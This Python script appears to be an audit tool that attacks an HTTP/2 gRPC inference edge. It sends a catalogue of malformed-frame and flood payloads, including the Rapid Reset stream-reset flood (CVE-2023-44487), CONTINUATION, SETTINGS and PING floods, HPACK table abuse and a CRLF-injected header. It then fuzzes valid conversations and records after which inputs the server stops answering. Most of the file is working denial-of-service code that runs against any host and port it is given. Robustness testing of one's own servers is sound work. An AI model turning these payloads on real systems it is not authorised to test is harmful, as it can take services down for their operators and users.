"""Malformed HTTP/2 against an edge, by the package h2 of PyPI: run by `auditors.py`, with a Python that has h2.

    python auditors_h2.py HOST:PORT SEED CONNECTIONS

First known attacks, one a connection: illegal headers and frames, floods, streams that are reset as soon as they are
open. Then connections on which a well-formed conversation has bits flipped, frames doubled, cut and shuffled. After
each of the first, and after every tenth of the others, a well-behaved client asks whether the edge lives and is ready.
Prints one JSON document: how many were tried, and after which of them the edge did not answer within two seconds.
"""

from __future__ import annotations

import contextlib
import json
import random
import socket
import struct
import sys
from collections.abc import Callable, Iterator

import h2
import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe import frame as frames

PATIENCE = 2.0  # seconds
LIVE = "/inference.GRPCInferenceService/ServerLive"
INFER = "/inference.GRPCInferenceService/ModelInfer"


def headers(path: str = LIVE, **more: str) -> list[tuple[str, str]]:
    """The headers of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "edge", "te": "trailers",
              "content-type": "application/grpc"}  # fmt: skip
    return list((fields | more).items())


def lax() -> h2.connection.H2Connection:
    """A client that sends whatever it is told to."""
    config = h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False, header_encoding=None
    )
    connection = h2.connection.H2Connection(config)
    connection.initiate_connection()
    return connection


def began(path: str = LIVE, **more: str) -> bytes:
    """The beginning of a connection with one call."""
    connection = lax()
    connection.send_headers(1, headers(path, **more))
    return bytes(connection.data_to_send())


def raw(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame, whatever its type."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def resets(count: int) -> bytes:
    """Streams that are reset as soon as they are open (CVE-2023-44487)."""
    connection, data = lax(), b""
    for number in range(count):
        connection.send_headers(2 * number + 1, headers(INFER))
        connection.reset_stream(2 * number + 1)
        data += connection.data_to_send()
    return data


def attacks() -> Iterator[tuple[str, bytes]]:
    """Known ones, by name."""
    start = bytes(lax().data_to_send())
    yield "no preface", b"GET / HTTP/1.1\r\n\r\n"
    yield "upper case in a header", began(**{"X-Upper": "1"})
    yield "a header of no name", began(**{"": "1"})
    yield "line ends in a header", began(**{"x": "1\r\ny: 2"})
    yield "no path", began(path="")
    yield "a path of 60 kB", began(path="/" + "x" * 60_000)
    yield "ten thousand headers", began(**{f"h{k}": "v" for k in range(10_000)})
    yield "a timeout of no sense", began(**{"grpc-timeout": "99999999999999999999H"})
    yield "a negative timeout", began(**{"grpc-timeout": "-1S"})
    yield "a length of no sense", began(**{"content-length": "-5"})
    yield "another encoding", began(INFER, **{"grpc-encoding": "gzip"}) + raw(0, 1, 1, b"\1\0\0\0\3abc")
    yield "a message of 4 GiB", began(INFER) + raw(0, 0, 1, struct.pack(">BI", 0, 2**32 - 1) + b"x")
    yield "data beyond the windows", began(INFER) + raw(0, 0, 1, bytes(16_384)) * 200
    yield "a frame beyond all", start + b"\xff\xff\xff\0\0\0\0\0\1" + bytes(20_000)
    yield "padding beyond the frame", began(INFER) + raw(0, 8, 1, b"\xffabc")
    yield "data on stream 0", start + raw(0, 0, 0, b"abc")
    yield "headers on an even stream", start + raw(1, 4, 2, b"\x82")
    yield "settings with an id", start + raw(4, 0, 1, b"")
    yield "settings of no length", start + raw(4, 0, 0, b"abc")
    yield "a ping of no length", start + raw(6, 0, 0, b"abc")
    yield "a window of nothing", start + raw(8, 0, 0, bytes(4))
    yield "a window that overflows", start + raw(8, 0, 0, struct.pack(">I", 2**31 - 1)) * 3
    yield "goodbye of no code", began(INFER) + raw(7, 0, 0, struct.pack(">II", 0, 0x12345678))
    yield "a continuation of nothing", start + raw(9, 0, 1, b"abc")
    yield "a push", start + raw(5, 4, 1, b"\0\0\0\2\x82")
    yield "a stream that depends on itself", start + raw(2, 0, 1, b"\0\0\0\1\x10")
    yield "unknown frames", start + raw(0xEE, 0xFF, 0x7FFFFFFF, bytes(1000)) * 100
    yield "indices from beyond the table", start + raw(1, 4, 1, b"\xff\xff\xff\xff\x0f")
    yield "a table of 4 GiB", start + raw(1, 4, 1, b"\x3f\xff\xff\xff\xff\x0f")
    yield "continuations without end", start + raw(1, 0, 1, b"\0\1a\1b") + raw(9, 0, 1, b"\0\1a\1b" * 3000) * 200
    yield "settings without end", start + raw(4, 0, 0, struct.pack(">HI", 4, 65_535)) * 20_000
    yield "pings without end", start + raw(6, 0, 0, bytes(8)) * 20_000
    yield "data of no bytes without end", began(INFER) + raw(0, 0, 1, b"") * 20_000
    yield "streams that are reset", resets(5_000)


def mutated(rng: random.Random) -> bytes:
    """A well-formed conversation in which something is not."""
    connection = lax()
    connection.send_headers(1, headers(INFER))
    connection.send_data(1, struct.pack(">BI", 0, 100) + rng.randbytes(100), end_stream=True)
    connection.ping(b"pingping")
    connection.send_headers(3, headers(LIVE))
    connection.send_data(3, bytes(5), end_stream=True)
    data = bytes(connection.data_to_send())
    preface, pieces = data[:24], _frames(data[24:])
    change: Callable[[], None] = rng.choice(
        [
            lambda: rng.shuffle(pieces),
            lambda: pieces.insert(rng.randrange(len(pieces)), rng.choice(pieces)),
            lambda: pieces.pop(rng.randrange(len(pieces))),
            lambda: pieces.append(raw(rng.randrange(12), rng.randrange(256), rng.randrange(8), rng.randbytes(20))),
            lambda: None,
        ]
    )
    change()
    data = bytearray(b"".join(pieces))
    for _ in range(rng.randrange(4)):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return preface + bytes(data[: rng.choice((len(data), rng.randrange(1, len(data))))])


def _frames(data: bytes) -> list[bytes]:
    found = []
    while data:
        _, length = frames.Frame.parse_frame_header(memoryview(data[:9]))
        found.append(data[: 9 + length])
        data = data[9 + length :]
    return found


def sent(address: tuple[str, int], data: bytes, wait: float) -> None:
    """Sends it on a connection of its own, and waits for a word of the edge."""
    with contextlib.suppress(OSError), socket.create_connection(address, PATIENCE) as peer:
        peer.settimeout(wait)
        peer.sendall(data)
        peer.recv(65_536)


def answers(address: tuple[str, int]) -> bool:
    """Whether a well-behaved client is answered."""
    connection = h2.connection.H2Connection()
    connection.initiate_connection()
    connection.send_headers(1, headers())
    connection.send_data(1, bytes(5), end_stream=True)
    try:
        with socket.create_connection(address, PATIENCE) as peer:
            peer.settimeout(PATIENCE)
            peer.sendall(connection.data_to_send())
            while data := peer.recv(65_536):
                for event in connection.receive_data(data):
                    if isinstance(event, h2.events.DataReceived):
                        return event.data[5:] == b"\x08\x01"  # live: true
                peer.sendall(connection.data_to_send())
    except OSError:
        pass
    return False


def main() -> None:
    """Attacks, and prints what came of it."""
    host, _, port = sys.argv[1].rpartition(":")
    address, rng, connections = (host, int(port)), random.Random(int(sys.argv[2])), int(sys.argv[3])
    silent, tried = [], 0
    for name, data in attacks():
        sent(address, data, 0.5)
        tried += 1
        if not answers(address):
            silent.append(name)
    for number in range(connections):
        sent(address, mutated(rng), 0.02)
        if number % 10 == 9 and not answers(address):
            silent.append(f"mutated {number}")
    print(json.dumps({"h2": h2.__version__, "attacks": tried, "mutated": connections, "no_answer_after": silent}))


if __name__ == "__main__":
    main()
